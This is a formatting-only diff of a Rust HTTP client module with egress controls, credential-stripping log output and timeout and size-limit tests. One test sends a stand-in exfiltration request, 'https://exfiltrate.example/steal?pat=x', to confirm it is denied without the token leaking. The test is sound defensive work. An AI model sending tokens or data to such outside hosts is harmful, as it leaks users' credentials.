@@ -58,10 +58,16 @@ fn run(
 ) -> Result<Result<ureq::http::Response<ureq::Body>, ureq::Error>, String> {
     if body.is_empty() && !needs_body {
         let r = builder.body(()).map_err(|e| e.to_string())?;
-        Ok(r.with_agent(agent).configure().timeout_global(Some(timeout)).run())
+        Ok(r.with_agent(agent)
+            .configure()
+            .timeout_global(Some(timeout))
+            .run())
     } else {
         let r = builder.body(body).map_err(|e| e.to_string())?;
-        Ok(r.with_agent(agent).configure().timeout_global(Some(timeout)).run())
+        Ok(r.with_agent(agent)
+            .configure()
+            .timeout_global(Some(timeout))
+            .run())
     }
 }
 
@@ -78,7 +84,9 @@ pub fn send(state: &mut CallState, request: Request) -> Result<Response, HttpErr
     if remaining.is_zero() {
         return Err(HttpError::Timeout);
     }
-    let mut builder = ureq::http::Request::builder().method(verb).uri(&request.url);
+    let mut builder = ureq::http::Request::builder()
+        .method(verb)
+        .uri(&request.url);
     for (name, value) in &request.headers {
         builder = builder.header(name, value);
     }
@@ -101,7 +109,12 @@ pub fn send(state: &mut CallState, request: Request) -> Result<Response, HttpErr
     let headers: Vec<(String, String)> = response
         .headers()
         .iter()
-        .map(|(k, v)| (k.as_str().to_ascii_lowercase(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
+        .map(|(k, v)| {
+            (
+                k.as_str().to_ascii_lowercase(),
+                String::from_utf8_lossy(v.as_bytes()).into_owned(),
+            )
+        })
         .collect();
     let limit = state.max_response_bytes as u64;
     let mut body = Vec::new();
@@ -113,11 +126,19 @@ pub fn send(state: &mut CallState, request: Request) -> Result<Response, HttpErr
         }
         Ok(_) => {}
         Err(e) if e.kind() == std::io::ErrorKind::TimedOut => return Err(HttpError::Timeout),
-        Err(e) => return Err(HttpError::Transport(format!("reading the response of {shown}: {e}"))),
+        Err(e) => {
+            return Err(HttpError::Transport(format!(
+                "reading the response of {shown}: {e}"
+            )));
+        }
     }
     let elapsed_ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);
     tracing::info!(target: "ticketing_host", method = verb, url = %shown, status, elapsed_ms, "http");
-    Ok(Response { status, headers, body })
+    Ok(Response {
+        status,
+        headers,
+        body,
+    })
 }
 
 #[cfg(test)]
@@ -126,7 +147,10 @@ mod tests {
 
     #[test]
     fn logged_urls_lose_credentials_and_query() {
-        assert_eq!(shown("https://u:p@dev.azure.com/c/_apis?x=secret#f"), "https://dev.azure.com/c/_apis");
+        assert_eq!(
+            shown("https://u:p@dev.azure.com/c/_apis?x=secret#f"),
+            "https://dev.azure.com/c/_apis"
+        );
         assert_eq!(shown("not a url"), "<invalid URL>");
     }
 }
@@ -160,20 +184,43 @@ mod wire_tests {
     }
 
     fn state(base: &str, max_response_bytes: usize) -> CallState {
-        let c = Connection { base_url: format!("{base}/org"), project: "p".into(), credentials: Credentials::Pat("x".into()) };
-        CallState::new(Egress::for_connection(&c), Kv::default(), agent(), Duration::from_secs(5), 1 << 20, max_response_bytes)
+        let c = Connection {
+            base_url: format!("{base}/org"),
+            project: "p".into(),
+            credentials: Credentials::Pat("x".into()),
+        };
+        CallState::new(
+            Egress::for_connection(&c),
+            Kv::default(),
+            agent(),
+            Duration::from_secs(5),
+            1 << 20,
+            max_response_bytes,
+        )
     }
 
     fn get(url: String) -> Request {
-        Request { method: Method::Get, url, headers: vec![("Accept".into(), "application/json".into())], body: vec![] }
+        Request {
+            method: Method::Get,
+            url,
+            headers: vec![("Accept".into(), "application/json".into())],
+            body: vec![],
+        }
     }
 
     #[test]
     fn redirects_and_errors_are_responses() {
-        let base = serve_once(b"HTTP/1.1 302 Found\r\nLocation: https://login.example/\r\nContent-Length: 0\r\n\r\n".to_vec());
+        let base = serve_once(
+            b"HTTP/1.1 302 Found\r\nLocation: https://login.example/\r\nContent-Length: 0\r\n\r\n"
+                .to_vec(),
+        );
         let r = send(&mut state(&base, 1024), get(format!("{base}/org/_apis"))).unwrap();
         assert_eq!(r.status, 302);
-        assert!(r.headers.iter().any(|(k, v)| k == "location" && v == "https://login.example/"));
+        assert!(
+            r.headers
+                .iter()
+                .any(|(k, v)| k == "location" && v == "https://login.example/")
+        );
 
         let base = serve_once(b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\n{}".to_vec());
         let r = send(&mut state(&base, 1024), get(format!("{base}/org/_apis"))).unwrap();
@@ -185,7 +232,10 @@ mod wire_tests {
         let mut response = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n".to_vec();
         response.extend([b'a'; 100]);
         let base = serve_once(response);
-        assert_eq!(send(&mut state(&base, 10), get(format!("{base}/org/x"))), Err(HttpError::TooLarge));
+        assert_eq!(
+            send(&mut state(&base, 10), get(format!("{base}/org/x"))),
+            Err(HttpError::TooLarge)
+        );
     }
 
     #[test]
@@ -196,10 +246,24 @@ mod wire_tests {
             let _held = listener.accept();
             std::thread::sleep(Duration::from_secs(3));
         });
-        let c = Connection { base_url: format!("{base}/org"), project: "p".into(), credentials: Credentials::Pat("x".into()) };
-        let mut s = CallState::new(Egress::for_connection(&c), Kv::default(), agent(), Duration::from_millis(300), 1 << 20, 10);
+        let c = Connection {
+            base_url: format!("{base}/org"),
+            project: "p".into(),
+            credentials: Credentials::Pat("x".into()),
+        };
+        let mut s = CallState::new(
+            Egress::for_connection(&c),
+            Kv::default(),
+            agent(),
+            Duration::from_millis(300),
+            1 << 20,
+            10,
+        );
         let started = std::time::Instant::now();
-        assert_eq!(send(&mut s, get(format!("{base}/org/x"))), Err(HttpError::Timeout));
+        assert_eq!(
+            send(&mut s, get(format!("{base}/org/x"))),
+            Err(HttpError::Timeout)
+        );
         assert!(started.elapsed() < Duration::from_secs(2));
     }
 
@@ -207,7 +271,10 @@ mod wire_tests {
     fn other_origins_are_denied_without_a_request() {
         let mut s = state("http://127.0.0.1:9", 10);
         match send(&mut s, get("https://exfiltrate.example/steal?pat=x".into())) {
-            Err(HttpError::Denied(reason)) => assert!(reason.contains("exfiltrate.example") && !reason.contains("pat=x"), "{reason}"),
+            Err(HttpError::Denied(reason)) => assert!(
+                reason.contains("exfiltrate.example") && !reason.contains("pat=x"),
+                "{reason}"
+            ),
             other => panic!("expected denied, got {other:?}"),
         }
     }
